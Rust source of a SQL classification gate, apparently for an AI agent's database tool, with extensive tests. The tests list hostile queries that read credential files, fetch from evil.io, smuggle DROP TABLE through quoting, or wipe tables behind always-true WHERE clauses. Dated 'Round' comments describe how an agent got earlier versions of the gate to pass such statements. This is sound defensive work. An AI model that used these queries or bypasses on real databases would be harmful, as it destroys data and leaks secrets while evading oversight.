            matches!(v_cmp(a, b), Some(std::cmp::Ordering::Greater))
                || (v_cmp(a, b) == Some(std::cmp::Ordering::Equal) && !(*ac && *bc))
        }
        _ => false,
    }
}

fn tautology(e: &Expr, d: usize) -> bool {
    if d > FOLD_DEPTH {
        return false;
    }
    if fold(e, d).and_then(|k| k.truthy()) == Some(true) {
        return true;
    }
    match e {
        Expr::Nested(e) => tautology(e, d + 1),
        // `NOT (id = 1 AND id <> 1)`
        Expr::UnaryOp {
            op: UnaryOperator::Not,
            expr,
        } => contradiction(expr, d + 1),
        Expr::BinaryOp { left, op, right } => match op {
            BinaryOperator::Or => {
                tautology(left, d + 1) || tautology(right, d + 1) || {
                    // `x = 1 OR … OR x <> 1`: two disjuncts anywhere in
                    // the chain that are each other's negation.
                    let mut terms = Vec::new();
                    disjuncts(e, d, &mut terms);
                    terms.iter().enumerate().any(|(i, a)| {
                        terms
                            .iter()
                            .skip(i + 1)
                            .any(|b| complementary(a, b) || complementary(b, a))
                    }) || covers_every_value(&terms, false, d)
                }
            }
            BinaryOperator::And => tautology(left, d + 1) && tautology(right, d + 1),
            BinaryOperator::Eq
            | BinaryOperator::GtEq
            | BinaryOperator::LtEq
            | BinaryOperator::Spaceship
            | BinaryOperator::Gt
            | BinaryOperator::Lt
            | BinaryOperator::NotEq => {
                let equal_sides = matches!(
                    op,
                    BinaryOperator::Eq
                        | BinaryOperator::GtEq
                        | BinaryOperator::LtEq
                        | BinaryOperator::Spaceship
                );
                (equal_sides && same(left, right))
                    || non_negative_bound(left, op, right, d)
                    || difference(left, right, d).is_some_and(|c| match op {
                        BinaryOperator::Eq | BinaryOperator::Spaceship => c == 0.0,
                        BinaryOperator::GtEq => c >= 0.0,
                        BinaryOperator::LtEq => c <= 0.0,
                        BinaryOperator::Gt => c > 0.0,
                        BinaryOperator::Lt => c < 0.0,
                        _ => c != 0.0,
                    })
            }
            BinaryOperator::PGRegexMatch
            | BinaryOperator::PGRegexIMatch
            | BinaryOperator::Regexp => {
                matches!(fold(right, d + 1), Some(K::Str(p)) if any_text_regex(&p))
            }
            BinaryOperator::Glob => {
                matches!(fold(right, d + 1), Some(K::Str(p)) if !p.is_empty() && p.chars().all(|c| c == '*'))
            }
            _ => false,
        },
        // `id BETWEEN id - 1 AND id + 1`
        Expr::Between {
            expr,
            negated: false,
            low,
            high,
        } => {
            difference(expr, low, d).is_some_and(|c| c >= 0.0)
                && difference(high, expr, d).is_some_and(|c| c >= 0.0)
        }
        Expr::Like {
            negated: false,
            pattern,
            expr,
            ..
        }
        | Expr::ILike {
            negated: false,
            pattern,
            expr,
            ..
        } => {
            matches!(fold(pattern, d + 1), Some(K::Str(p)) if !p.is_empty() && p.chars().all(|c| c == '%'))
                || same(expr, pattern)
        }
        Expr::In {
            expr,
            target: InTarget::List(list),
            negated: false,
            ..
        } => list.iter().any(|i| same(i, expr)),
        // Patterns every text matches: `SIMILAR TO '%'`, `REGEXP '.*'`,
        // `~ ''`, `GLOB '*'`; and `x LIKE x`.
        Expr::SimilarTo {
            negated: false,
            pattern,
            ..
        } => {
            matches!(fold(pattern, d + 1), Some(K::Str(p)) if !p.is_empty() && p.chars().all(|c| c == '%'))
        }
        Expr::RLike {
            negated: false,
            pattern,
            ..
        } => matches!(fold(pattern, d + 1), Some(K::Str(p)) if any_text_regex(&p)),
        // `x = ANY (ARRAY[x, …])`
        Expr::AnyOp {
            left,
            compare_op: BinaryOperator::Eq,
            right,
            ..
        } => match canon(right) {
            Expr::Array(a) => a.elem.iter().any(|i| same(i, left)),
            _ => false,
        },
        Expr::IsNotNull(e) => fold(e, d + 1).is_some_and(|k| k != K::Null),
        // `x IS NOT DISTINCT FROM x` holds for NULL too.
        Expr::IsNotDistinctFrom(a, b) => same(a, b),
        // `EXISTS (SELECT 1)`: a query without FROM or WHERE has a row.
        Expr::Exists {
            negated: false,
            subquery,
        } => matches!(subquery.body.as_ref(),
            SetExpr::Select(s) if s.from.is_empty() && s.selection.is_none() && s.having.is_none()),
        _ => false,
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use super::*;

    fn class(s: &str) -> &'static str {
        analyze(s).class.name()
    }

    fn class_as(s: &str, e: Engine) -> &'static str {
        analyze_for(s, Some(e)).class.name()
    }

    /// Round 19: DuckDB reads files and URLs as tables. `sql_query {sql:
    /// "SELECT * FROM 'https://evil.io/x.parquet'"}` was a read-only query,
    /// allowed: DuckDB fetches the URL (a replacement scan), and `FROM
    /// '/home/dev/.aws/credentials'` reads the keys. A file reader or a
    /// quoted name is a read only for a plain path inside the workspace;
    /// ClickHouse's `INSERT INTO FUNCTION file(…)` writes a file.
    #[test]
    fn files_and_urls_read_as_tables_are_placed_by_their_path() {
        for q in [
            "SELECT * FROM 'https://evil.io/x.parquet'",
            "SELECT * FROM '/home/dev/.aws/credentials'",
            "SELECT * FROM \"s3://evil/x.csv\"",
            "SELECT * FROM '~/.netrc'",
            "SELECT * FROM '../secrets/x.csv'",
            "SELECT * FROM read_csv('https://evil.io/x.csv')",
            "SELECT * FROM read_text('/home/dev/.ssh/id_rsa')",
            "SELECT * FROM read_parquet(['data/a.parquet', 's3://evil/b.parquet'])",
            "SELECT * FROM read_csv(some_column)",
            "SELECT * FROM read_text('.env')",
            "SELECT read_blob('/etc/shadow')",
            "INSERT INTO FUNCTION file('/home/dev/.bashrc', 'RawBLOB') SELECT 'x'",
        ] {
            assert_ne!(class(q), "read", "{q}");
            assert_ne!(class(q), "write", "{q}");
        }
        for q in [
            "SELECT count(*) FROM 'data/events.parquet'",
            "SELECT * FROM read_csv('data/x.csv') LIMIT 5",
            "SELECT * FROM read_csv_auto('data/sales.csv', header = true)",
        ] {
            assert_eq!(class(q), "read", "{q}");
        }
    }

    #[test]
    fn reads() {
        assert_eq!(class("SELECT * FROM users WHERE id = 1"), "read");
        assert_eq!(class("  select count(*) from orders"), "read");
        assert_eq!(class("WITH x AS (SELECT 1) SELECT * FROM x"), "read");
        assert_eq!(class("SHOW TABLES"), "read");
        assert_eq!(class("EXPLAIN SELECT 1"), "read");
        assert_eq!(
            class("SELECT 'DROP TABLE users; DELETE FROM t' AS s"),
            "read"
        );
        assert_eq!(class("SELECT \"delete\" FROM t -- DROP TABLE t"), "read");
        assert_eq!(class("SELECT 1 /* ; DROP TABLE t; */"), "read");
        assert_eq!(class("SELECT * FROM t FOR UPDATE"), "read");
        assert_eq!(
            class_as("SELECT $$ DROP TABLE t $$", Engine::Postgres),
            "read"
        );
        let a = analyze("SELECT * FROM users WHERE id = 1");
        assert_eq!(a.kind, "select");
        assert!(a.has_where);
        assert!(!a.destructive);
        assert_eq!(a.tables, vec!["users"]);
    }

    #[test]
    fn writes_need_a_real_where() {
        assert_eq!(class("UPDATE users SET name = 'x' WHERE id = 7"), "write");
        assert_eq!(class("DELETE FROM sessions WHERE expires < now()"), "write");
        assert_eq!(class("INSERT INTO t (a) VALUES (1)"), "write");
        assert_eq!(
            class_as(
                "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2",
                Engine::Postgres
            ),
            "write"
        );
        for s in [
            "DELETE FROM users",
            "delete from users;",
            "UPDATE users SET admin = true",
            "update users set admin=true -- WHERE id = 1",
            "DELETE FROM users WHERE 1=1",
            "DELETE FROM users WHERE true",
            "DELETE FROM users WHERE id = 5 OR 1 = 1",
            "DELETE FROM users WHERE 'a' = 'a'",
            "UPDATE t SET a = 1 WHERE (1)",
            "DELETE FROM users WHERE 1=1 AND 2=2",
            "DELETE FROM users WHERE 2>1",
            "DELETE FROM users WHERE NOT 0",
            "DELETE FROM users WHERE 1",
            "DELETE FROM users WHERE id = id",
            "DELETE FROM users WHERE name LIKE '%'",
            "DELETE FROM users WHERE 3 BETWEEN 1 AND 5",
            "DELETE FROM users WHERE 1 IN (1, 2)",
            "DELETE FROM users WHERE (id = 3) OR ('x' <> 'y')",
            "DELETE FROM users WHERE email IS NULL OR email IS NOT NULL",
            "DELETE FROM users WHERE NOT (1 = 2)",
            "DELETE FROM users WHERE 10 - 9",
            "DELETE FROM users WHERE EXISTS (SELECT 1)",
            "DELETE FROM users WHERE '1abc'",
            "DELETE FROM users WHERE TRUE IS NOT FALSE",
            "DELETE FROM users WHERE NULL IS NULL",
            "DELETE FROM users WHERE 1 = '1'",
        ] {
            let a = analyze(s);
            assert_eq!(a.class, Class::Destructive, "{s}");
            assert!(a.destructive, "{s}");
            assert!(!a.has_where, "{s}");
        }
        for s in [
            "DELETE FROM users WHERE id = 5",
            "DELETE FROM users WHERE 1 = 2 OR id = 5",
            "DELETE FROM users WHERE 1=1 AND id = 5",
            "DELETE FROM users WHERE NOT 1",
            "DELETE FROM users WHERE 'abc'",
            "DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans b WHERE b.user_id = users.id)",
        ] {
            assert_eq!(class(s), "write", "{s}");
        }
        let a = analyze("DELETE FROM users");
        assert_eq!(a.kind, "delete");
        assert_eq!(a.tables, vec!["users"]);
    }

    /// An agent told to "clean up" passes a WHERE that reads no column of
    /// the rows it changes: every row meets it or none does, so it is no
    /// row filter, whatever functions or subqueries dress it up. Outside
    /// production a write with a real WHERE is allowed; these must not be.
    #[test]
    fn a_where_that_reads_no_column_of_the_rows_changed_is_no_where() {
        for s in [
            "UPDATE users SET admin = true WHERE length('a') = 1",
            "UPDATE users SET admin = true WHERE lower('A') = 'a'",
            "UPDATE users SET admin = true WHERE coalesce(NULL, 1) = 1",
            "UPDATE users SET admin = true WHERE now() > '2000-01-01'",
            "UPDATE users SET admin = true WHERE random() < 2",
            "UPDATE users SET admin = true WHERE (SELECT 1) = 1",
            "UPDATE users SET admin = true WHERE 'a' LIKE 'a'",
            "UPDATE users SET admin = true WHERE CASE WHEN 1=1 THEN true END",
            "UPDATE users SET admin = true WHERE ~0",
            "DELETE FROM users WHERE EXISTS (SELECT * FROM users)",
            "DELETE FROM users WHERE NOT EXISTS (SELECT 1 WHERE false)",
            "DELETE FROM users WHERE EXISTS (SELECT u.id FROM users u WHERE u.id > 0)",
            "UPDATE users SET admin = true WHERE id IS NOT DISTINCT FROM id",
        ] {
            assert_eq!(class(s), "destructive", "{s}");
        }
        // A WHERE that reads a column, also from inside a subquery through
        // the target's name, is a real one.
        for s in [
            "UPDATE users SET admin = true WHERE lower(name) = 'ann'",
            "DELETE FROM sessions WHERE expires_at < now()",
            "DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans b WHERE b.user_id = users.id)",
            "DELETE FROM users u WHERE NOT EXISTS (SELECT 1 FROM orders o WHERE o.user_id = u.id)",
            "UPDATE t SET x = o.y FROM o WHERE t.id = o.id",
        ] {
            assert_eq!(class(s), "write", "{s}");
        }
        // Only names the gate cannot place (unqualified inside a subquery,
        // or in a statement joining tables): not known to filter, escalated.
        for s in [
            "DELETE FROM users WHERE EXISTS (SELECT 1 FROM users WHERE id > 0)",
            "UPDATE users SET admin = true FROM (SELECT 1 AS x) s WHERE x = 1",
            "DELETE FROM users USING bans WHERE bans.active",
        ] {
            assert_eq!(class(s), "other", "{s}");
        }
    }

    /// `MERGE … ON true WHEN MATCHED THEN DELETE` empties the target: the
    /// ON picks the rows the matched actions change, as a WHERE does.
    #[test]
    fn a_merge_changes_the_rows_its_on_picks() {
        for s in [
            "MERGE INTO users u USING (SELECT 1 id) s ON true WHEN MATCHED THEN DELETE",
            "MERGE INTO users u USING src s ON 1 = 1 WHEN MATCHED THEN UPDATE SET admin = true",
            "MERGE INTO users u USING src s ON s.x = 1 WHEN MATCHED THEN DELETE",
            "MERGE INTO users u USING src s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
        ] {
            let worst = [Engine::Postgres, Engine::MsSql]
                .iter()
                .map(|e| analyze_full(s, Some(*e)).class)
                .max();
            assert!(worst >= Some(Class::Other), "{s}: {worst:?}");
        }
        assert_eq!(
            class_as(
                "MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)",
                Engine::Postgres
            ),
            "write"
        );
        assert_eq!(
            class_as(
                "MERGE INTO users u USING (SELECT 1 id) s ON true WHEN MATCHED THEN DELETE",
                Engine::Postgres
            ),
            "destructive"
        );
    }

    /// MySQL and SQLite run a batch one statement at a time, so a statement
    /// before one their tokenizer refuses has run: `--'` is no comment in
    /// MySQL (it wants a space), it opens a string that never ends — the
    /// DELETE before it has already deleted.
    /// Where a string ends can hang on a server setting (MySQL's
    /// `NO_BACKSLASH_ESCAPES` and `ANSI_QUOTES`, Postgres's
    /// `standard_conforming_strings`): the text is read both ways and the
    /// worse reading decides.
    /// Round 18: `UPDATE users SET email = NULL` without a WHERE is held,
    /// but the agent spelled it as an upsert fed by the table itself —
    /// every row conflicts with itself, so the SET reaches every row —
    /// and it was "row changes with a WHERE outside production", allowed
    /// in dev. MySQL's `REPLACE` and SQLite's `INSERT OR REPLACE` delete
    /// every row first (firing `ON DELETE CASCADE`). An upsert from
    /// another table, or picking rows with a real WHERE, stays a write.
    #[test]
    fn an_upsert_fed_by_its_own_table_changes_every_row() {
        for (s, e) in [
            ("INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET email = NULL", Engine::Postgres),
            ("INSERT INTO users (id, role) SELECT id, role FROM public.users ON CONFLICT (id) DO UPDATE SET role = 'admin'", Engine::Postgres),
            ("INSERT INTO users SELECT * FROM \"users\" ON CONFLICT ON CONSTRAINT users_pkey DO UPDATE SET pw = ''", Engine::Postgres),
            ("INSERT INTO users SELECT * FROM users WHERE true ON CONFLICT (id) DO UPDATE SET email = NULL", Engine::Sqlite),
            ("INSERT OR REPLACE INTO users SELECT * FROM users", Engine::Sqlite),
            ("REPLACE INTO users SELECT id, NULL FROM users", Engine::Sqlite),
            ("INSERT INTO users SELECT * FROM users ON DUPLICATE KEY UPDATE email = NULL", Engine::MySql),
            ("REPLACE INTO `users` SELECT * FROM `users`", Engine::MySql),
            ("REPLACE users SELECT * FROM users", Engine::MySql),
            // the source computes the value `excluded` carries
            ("INSERT INTO users (id, role) SELECT id, 'admin' FROM users ON CONFLICT (id) DO UPDATE SET role = excluded.role", Engine::Postgres),
            ("INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET role = excluded.email", Engine::Postgres),
        ] {
            assert_eq!(class_as(s, e), "destructive", "{s}");
        }
        for (s, e) in [
            ("INSERT INTO users SELECT * FROM staging_users WHERE batch = 7 ON CONFLICT (id) DO UPDATE SET email = excluded.email", Engine::Postgres),
            ("INSERT INTO users SELECT * FROM users WHERE id = 7 ON CONFLICT (id) DO UPDATE SET email = NULL", Engine::Postgres),
            ("INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET email = NULL WHERE users.id = 7", Engine::Postgres),
            ("INSERT INTO users SELECT * FROM users ON CONFLICT DO NOTHING", Engine::Postgres),
            ("INSERT INTO daily SELECT day, count(*) FROM events GROUP BY 1 ON CONFLICT (day) DO UPDATE SET n = excluded.n", Engine::Postgres),
            ("INSERT OR REPLACE INTO settings (key, value) VALUES ('theme', 'dark')", Engine::Sqlite),
            ("REPLACE INTO cache SELECT * FROM cache_staging", Engine::MySql),
            ("INSERT INTO users_copy SELECT * FROM users", Engine::Postgres),
            // every row set to its own values: nothing changes
            ("INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET role = excluded.role", Engine::Postgres),
            ("INSERT INTO users SELECT * FROM users ON DUPLICATE KEY UPDATE role = VALUES(role)", Engine::MySql),
        ] {
            assert_eq!(class_as(s, e), "write", "{s}");
        }
    }

    #[test]
    fn a_string_a_server_setting_ends_elsewhere_is_read_both_ways() {
        for (s, e) in [
            // default MySQL: one string; NO_BACKSLASH_ESCAPES: a DROP
            ("SELECT 'a\\' ; DROP TABLE users; -- '", Engine::MySql),
            ("SELECT N'a\\'; DROP TABLE users; --'", Engine::MySql),
            ("SELECT _utf8'a\\'; DROP TABLE users; -- '", Engine::MySql),
            // ANSI_QUOTES: `"a\"` is a name, and the DROP runs
            ("SELECT \"a\\\"; DROP TABLE users; --\"", Engine::MySql),
            // unterminated by default, a DROP under the setting
            ("SELECT 'a\\'; DROP TABLE users; --", Engine::MySql),
            // standard_conforming_strings = off: `\'` is a quote, the
            // second string's opening quote closes the first
            ("SELECT 'a\\' , '; DROP TABLE users; -- '", Engine::Postgres),
        ] {
            assert_eq!(class_as(s, e), "destructive", "{s} as {e:?}");
            assert_eq!(class(s), "destructive", "{s}");
        }
        // Backslashes that move no string's end read the same both ways.
        assert_eq!(
            class_as("SELECT * FROM t WHERE p LIKE 'C:\\\\Users%'", Engine::MySql),
            "read"
        );
        assert_eq!(
            class_as("SELECT * FROM t WHERE x ~ '\\d+'", Engine::Postgres),
            "read"
        );
        assert_eq!(class_as("SELECT E'a\\'' , 'b'", Engine::Postgres), "read");
    }

    /// A WHERE that is a constant by arithmetic, whatever the columns hold,
    /// is no WHERE at all.
    #[test]
    fn a_where_that_cancels_its_columns_is_no_where() {
        for s in [
            "DELETE FROM users WHERE id * 0 = 0",
            "DELETE FROM users WHERE id - id = 0",
            "DELETE FROM users WHERE id = id + 0",
            "DELETE FROM users WHERE id + 1 > id",
            "DELETE FROM users WHERE id < id + 1",
            "DELETE FROM users WHERE id <> id + 1",
            "DELETE FROM users WHERE 2 * (id + 1) - id - id = 2",
            "DELETE FROM users WHERE -id = 0 - id",
            "DELETE FROM users WHERE id / 2 * 2 = id",
            "DELETE FROM users WHERE ID - id >= 0",
            "DELETE FROM users WHERE id BETWEEN id - 1 AND id + 1",
            "DELETE FROM users WHERE length(name) - LENGTH(name) = 0",
            "UPDATE users SET role = 'admin' WHERE id * 0 = 0",
            "DELETE FROM users WHERE id = 5 OR id - id = 0",
            // a disjunct and its negation, anywhere in the chain
            "DELETE FROM users WHERE id = 1 OR id <> 1 OR id IS NULL",
            "DELETE FROM users WHERE id = 1 OR (name = 'x' OR id != 1)",
            "DELETE FROM users WHERE id < 10 OR id >= 10",
            "DELETE FROM users WHERE id > 10 OR 10 >= id",
            "DELETE FROM users WHERE id IS NULL OR name = 'x' OR id IS NOT NULL",
            "DELETE FROM users WHERE NOT (id = 3) OR id = 3",
            "UPDATE users SET role = 'admin' WHERE (id = 1) OR (id <> 1)",
        ] {
            assert_eq!(analyze(s).class, Class::Destructive, "{s}");
        }
        // A column that does not cancel still picks rows.
        for s in [
            "DELETE FROM users WHERE id * 2 = 0",
            "DELETE FROM users WHERE id - other = 0",
            "DELETE FROM users WHERE id + 1 = id * 2",
            "DELETE FROM users WHERE id * id = 0",
            "DELETE FROM users WHERE id + 1 < id",
            "DELETE FROM users WHERE id BETWEEN id + 1 AND id + 2",
            "DELETE FROM users WHERE id = 1 OR id <> 2",
            "DELETE FROM users WHERE id < 10 OR id > 10",
            "DELETE FROM users WHERE id = 1 AND id <> 1",
            "DELETE FROM users WHERE id = 1 OR other <> 1",
        ] {
            assert_eq!(analyze(s).class, Class::Write, "{s}");
        }
    }

    /// Round 11: WHEREs that cover every row through a subquery over the
    /// same table, an empty subquery, a LIKE and its NOT LIKE, `NOT` of a
    /// contradiction, a column compared with itself through `COALESCE`, or
    /// a length or `ABS` bounded below zero — each deletes the whole table.
    /// Round 12: an injected agent told "a DELETE needs a WHERE" writes one
    /// that every row meets only together with different constants — two
    /// ranges that overlap or meet (`id < 5 OR id > 4`), or leave no
    /// integer out (`id <= 4 OR id >= 5`), two inequalities, a BETWEEN and
    /// its outsides, texts compared as texts — or a pattern every text
    /// matches, or a subquery that keeps every row behind `OFFSET 0`, a
    /// UNION, a derived table or a CTE. Each deletes every row in dev,
    /// so each is no WHERE; ranges that leave values out still pick rows.
    #[test]
    fn a_where_whose_ranges_cover_every_value_is_no_where() {
        for s in [
            "DELETE FROM users WHERE id < 5 OR id > 4",
            "DELETE FROM users WHERE id <= 4 OR id >= 5",
            "DELETE FROM users WHERE id > 100 OR id < 1000",
            "DELETE FROM users WHERE id <> 5 OR id <> 6",
            "DELETE FROM users WHERE id NOT IN (1) OR id NOT IN (2)",
            "DELETE FROM users WHERE id BETWEEN 0 AND 10 OR id < 0 OR id > 10",
            "DELETE FROM users WHERE id NOT BETWEEN 1 AND 5 OR id BETWEEN 0 AND 6",
            "DELETE FROM users WHERE 5 > id OR 4 < id",
            "DELETE FROM users WHERE id + 1 > 5 OR id < 5",
            "DELETE FROM users WHERE 2 * id < 10 OR id >= 5",
            "DELETE FROM users WHERE id > 4 OR NOT (id > 5)",
            "DELETE FROM users WHERE NOT (id > 5 AND id < 3)",
            "DELETE FROM users WHERE id = 5 OR id IS DISTINCT FROM 5",
            "DELETE FROM users WHERE CAST(id AS INT) < 5 OR CAST(id AS INT) > 4",
            "DELETE FROM users WHERE created_at < '2030-01-01' OR created_at > '2000-01-01'",
            "DELETE FROM users WHERE name < 'n' OR name >= 'a'",
            "UPDATE accounts SET balance = 0 WHERE balance <= 0 OR balance > -1",
            "DELETE FROM users WHERE name SIMILAR TO '%'",
            "DELETE FROM users WHERE name ~ '.*'",
            "DELETE FROM users WHERE name LIKE name",
            "DELETE FROM users WHERE id = ANY(ARRAY[id])",
            "DELETE FROM users WHERE id = (SELECT id)",
            "DELETE FROM users WHERE id IN (SELECT id FROM users OFFSET 0)",
            "DELETE FROM users WHERE id IN (SELECT id FROM users UNION SELECT 0)",
            "DELETE FROM users WHERE id IN (WITH x AS (SELECT id FROM users) SELECT id FROM x)",
            "DELETE FROM users WHERE id IN (SELECT * FROM (SELECT id FROM users) s)",
        ] {
            assert_eq!(analyze(s).class, Class::Destructive, "{s}");
        }
        for s in [
            "DELETE FROM jobs WHERE id < 100 OR id > 200",
            "DELETE FROM jobs WHERE id <= 100 OR id >= 200",
            "DELETE FROM users WHERE id < 5 OR name > 'a'",
            "DELETE FROM users WHERE id = 1 OR id = 2",
            "DELETE FROM users WHERE id < 4.5 OR id > 4.6",
            "DELETE FROM sessions WHERE expires_at < now() OR revoked",
            "DELETE FROM users WHERE id BETWEEN 0 AND 10 OR id > 10",
            "DELETE FROM users WHERE name ~ '^adm'",
            "DELETE FROM users WHERE id IN (SELECT id FROM users OFFSET 5)",
            "DELETE FROM users WHERE id IN (SELECT id FROM banned UNION SELECT 0)",
        ] {
            assert_eq!(analyze(s).class, Class::Write, "{s}");
        }
        // Catalogs that hold connection passwords are no plain reads.
        assert_eq!(
            analyze("SELECT subconninfo FROM pg_subscription").class,
            Class::Privilege
        );
        assert_eq!(
            analyze("SELECT * FROM mysql.slave_master_info").class,
            Class::Privilege
        );
        // Everyday size and catalog functions stay reads.
        assert_eq!(
            analyze("SELECT pg_size_pretty(pg_database_size(current_database()))").class,
            Class::Read
        );
    }

    #[test]
    fn a_where_that_every_row_meets_another_way_is_no_where() {
        for s in [
            "DELETE FROM users WHERE id IN (SELECT id FROM users)",
            "DELETE FROM users WHERE id IN (SELECT u.id FROM users u)",
            "DELETE FROM users WHERE users.id IN (SELECT id FROM public.users WHERE 1 = 1)",
            "UPDATE users SET role = 'admin' WHERE id IN (SELECT id FROM users)",
            "DELETE FROM users WHERE id = ANY (SELECT id FROM users)",
            "DELETE FROM users WHERE id NOT IN (SELECT NULL WHERE 1 = 0)",
            "DELETE FROM users WHERE id NOT IN (SELECT id FROM users WHERE FALSE)",
            "DELETE FROM users WHERE NOT EXISTS (SELECT 1 FROM users WHERE 1 = 2)",
            "DELETE FROM users WHERE id <> ALL (SELECT id FROM users WHERE id <> id)",
            "DELETE FROM users WHERE name LIKE 'a%' OR name NOT LIKE 'a%'",
            "DELETE FROM users WHERE id IN (1, 2) OR id NOT IN (1, 2)",
            "DELETE FROM users WHERE id BETWEEN 1 AND 5 OR id NOT BETWEEN 1 AND 5",
            "DELETE FROM users WHERE active IS TRUE OR active IS NOT TRUE",
            "DELETE FROM users WHERE NOT (id = 1 AND id <> 1)",
            "DELETE FROM users WHERE NOT (id <> id)",
            "DELETE FROM users WHERE COALESCE(id, id) = id",
            "DELETE FROM users WHERE IFNULL(name, name) = name",
            "DELETE FROM users WHERE ABS(id) >= 0",
            "DELETE FROM users WHERE length(name) > -1",
            "DELETE FROM users WHERE 0 <= CHAR_LENGTH(name)",
            "DELETE FROM users WHERE id * id >= 0",
        ] {
            assert_eq!(analyze(s).class, Class::Destructive, "{s}");
        }
        // Subqueries over other tables, a filtered subquery, and bounds a
        // row can fail still pick rows.
        for s in [
            "DELETE FROM carts WHERE user_id IN (SELECT id FROM users)",
            "DELETE FROM users WHERE id IN (SELECT id FROM users WHERE banned)",
            "DELETE FROM users WHERE id IN (SELECT id FROM users LIMIT 10)",
            "DELETE FROM users WHERE id IN (SELECT owner_id FROM users)",
            "DELETE FROM users WHERE id NOT IN (SELECT user_id FROM orders)",
            "DELETE FROM users WHERE name LIKE 'a%' OR name NOT LIKE 'b%'",
            "DELETE FROM users WHERE COALESCE(id, 0) = 5",
            "DELETE FROM users WHERE ABS(balance) > 100",
            "DELETE FROM users WHERE LENGTH(name) >= 1",
            "DELETE FROM users WHERE NOT (id = 1)",
        ] {
            assert_eq!(analyze(s).class, Class::Write, "{s}");
        }
    }

    /// Round 13: round 12 left these WHEREs open — each holds for every
    /// row by a construct the reading has no model of (XOR, CASE, truth
    /// values as numbers or arguments, row values, one column read on both
    /// sides through a call or a subquery, a table joined to itself). A
    /// WHERE not shown to pick rows does not make a row change a plain
    /// write: it is `other`, escalated in every environment.
    #[test]
    fn a_where_the_reading_cannot_show_narrow_is_no_plain_write() {
        for s in [
            "DELETE FROM users WHERE id > 5 XOR id <= 5",
            "UPDATE users SET role = 'admin' WHERE id < 3 XOR id >= 3",
            "DELETE FROM users WHERE CASE WHEN id > 5 THEN 1 ELSE 1 END = 1",
            "DELETE FROM users WHERE CASE id WHEN 1 THEN true ELSE true END",
            "DELETE FROM users WHERE COALESCE(id > 5, true) OR id <= 5",
            "DELETE FROM users WHERE (id > 5) + (id <= 5) = 1",
            "DELETE FROM users WHERE (id > 5)::int + (id <= 5)::int = 1",
            "DELETE FROM users WHERE (id, id) <> (5, 6) OR id = 5",
            "DELETE FROM users WHERE greatest(id, 0) >= least(id, 0)",
            "DELETE FROM users WHERE id <= (SELECT max(id) FROM users)",
            "DELETE FROM users WHERE id >= (SELECT min(id) FROM users)",
            "DELETE FROM users USING users u2 WHERE users.id = u2.id",
            "UPDATE users SET role = 'admin' FROM users u2 WHERE users.id = u2.id",
        ] {
            let a = analyze(s);
            assert!(a.class != Class::Write, "{s}: {:?}", a.class);
            assert!(!a.has_where, "{s}");
        }
        // what everyday work writes still picks rows
        for s in [
            "DELETE FROM sessions WHERE expires_at < now() OR revoked",
            "UPDATE users SET active = false WHERE last_login < '2020-01-01' AND role = 'guest'",
            "DELETE FROM order_items USING orders WHERE order_items.order_id = orders.id AND orders.status = 'void'",
            "UPDATE orders SET status = CASE WHEN paid THEN 'done' ELSE 'open' END WHERE id = 4411",
            "DELETE FROM jobs WHERE finished_at < started_at",
        ] {
            let a = analyze(s);
            assert_eq!(a.class, Class::Write, "{s}");
            assert!(a.has_where, "{s}");
        }
    }

    #[test]
    fn a_statement_before_a_refused_one_runs() {
        let s = "SELECT 'a\\''; DELETE FROM users; --'";
        assert_eq!(class_as(s, Engine::MySql), "destructive");
        assert_eq!(class(s), "destructive");
        // refused in the first statement: nothing runs in MySQL; the other
        // engines read a plain SELECT
        assert_eq!(class("SELECT 'C:\\'"), "read");
        // unterminated for MySQL by default (refused: `other`), a plain
        // read under NO_BACKSLASH_ESCAPES: still `other`
        assert_eq!(class_as("SELECT 'C:\\'", Engine::MySql), "other");
        // Postgres reads the whole batch before it runs any of it
        assert_eq!(class_as("SELECT 1; SELECT 'x", Engine::Postgres), "other");
    }

    #[test]
    fn drops_and_truncates_are_destructive() {
        for s in [
            "DROP TABLE users",
            "drop table if exists users cascade",
            "TRUNCATE users",
            "TrUnCaTe TABLE users",
            "ALTER TABLE users DROP COLUMN email",
            "/* hi */ DROP/**/TABLE users",
        ] {
            assert_eq!(class(s), "destructive", "{s}");
        }
        assert_eq!(analyze("DROP TABLE a, b").tables, vec!["a", "b"]);
        assert_eq!(analyze("DROP TABLE users").kind, "ddl");
    }

    #[test]
    fn every_statement_counts() {
        let a = analyze("SELECT * FROM t; DROP TABLE users");
        assert_eq!(a.class, Class::Destructive);
        assert_eq!(a.kind, "ddl");
        assert_eq!(
            class("BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT"),
            "write"
        );
        assert_eq!(class("SELECT 1;;; GRANT ALL ON t TO eve"), "privilege");
        assert_eq!(
            class("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d"),
            "destructive"
        );
        assert_eq!(class("EXPLAIN ANALYZE DELETE FROM users"), "destructive");
        assert_eq!(class("EXPLAIN DELETE FROM users"), "read");
        assert_eq!(
            class_as("EXPLAIN (ANALYZE) DELETE FROM users", Engine::Postgres),
            "destructive"
        );
        assert_eq!(
            class_as(
                "EXPLAIN (ANALYZE false) DELETE FROM users",
                Engine::Postgres
            ),
            "destructive"
        );
        assert_eq!(
            class_as("EXPLAIN (COSTS off) DELETE FROM users", Engine::Postgres),
            "read"
        );
        assert_eq!(
            class_as(
                "CREATE OR REPLACE TABLE users AS SELECT 1 AS id",
                Engine::BigQuery
            ),
            "destructive"
        );
        assert_eq!(class_as("PRAGMA table_info(users)", Engine::Sqlite), "read");
        // Round 20: a pragma with no value is a read only when it reports
        // (`sql_query {sql: "PRAGMA force_checkpoint"}` was a read-only
        // query, allowed; DuckDB runs it as a procedure, and SQLite's
        // `PRAGMA optimize` or `incremental_vacuum` writes).
        assert_eq!(class_as("PRAGMA journal_mode", Engine::Sqlite), "read");
